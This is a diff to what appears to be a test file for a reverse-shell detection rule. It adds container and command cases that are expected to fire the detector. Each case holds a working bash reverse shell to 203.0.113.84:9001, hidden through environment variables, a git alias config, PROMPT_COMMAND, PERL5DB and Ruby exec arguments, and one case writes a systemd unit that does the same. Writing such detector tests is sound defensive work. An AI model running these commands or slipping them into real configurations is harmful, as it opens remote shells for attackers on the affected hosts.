@@ -9,6 +9,62 @@ const image = 'registry.example.com/shop/web:2';
 
 indicatorTable(commandReverseShell, {
   fires: {
+    'a text of the container that env puts in': cronJob({
+      containers: [
+        {
+          name: 'main',
+          image: 'debian:12',
+          env: [{ name: 'A', value: 'bash -i >& /dev/tcp/203.0.113.84/9001 0>&1' }],
+          command: ['/usr/bin/env', '-S', 'bash -c ${A}'],
+        },
+      ],
+    }),
+    'a command of git in variables': cronJob({
+      containers: [
+        {
+          name: 'main',
+          image: 'alpine/git:2.45',
+          env: [
+            { name: 'T', value: 'bash -i >& /dev/tcp/203.0.113.84/9001 0>&1' },
+            { name: 'GIT_CONFIG_COUNT', value: '1' },
+            { name: 'GIT_CONFIG_KEY_0', value: 'alias.refresh' },
+            { name: 'GIT_CONFIG_VALUE_0', value: '!bash -c "$T"' },
+          ],
+          command: ['git', 'refresh'],
+        },
+      ],
+    }),
+    'what a shell does before it asks': cronJob({
+      containers: [
+        {
+          name: 'main',
+          image: 'debian:12',
+          env: [{ name: 'PROMPT_COMMAND', value: 'bash -i >& /dev/tcp/203.0.113.84/9001 0>&1' }],
+          command: ['bash'],
+          stdin: true,
+        },
+      ],
+    }),
+    'code of the debugger of Perl': cronJob({
+      containers: [
+        {
+          name: 'main',
+          image: 'perl:5.40',
+          env: [{ name: 'PERL5DB', value: 'BEGIN{system("bash","-c","bash -i >& /dev/tcp/203.0.113.84/9001 0>&1")}' }],
+          command: ['perl', '-d', '-e', 'print 1'],
+        },
+      ],
+    }),
+    'words of a program of Ruby': runs(
+      'ruby',
+      '-e',
+      'exec "bash", "-c", ARGV.join(" ")',
+      'bash',
+      '-i',
+      '>&',
+      '/dev/tcp/203.0.113.84/9001',
+      '0>&1',
+    ),
     'a unit that is written for another machine': script(
       'printf \'[Service]\\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"\\n\' > /images/root/etc/systemd/system/a.service',
     ),
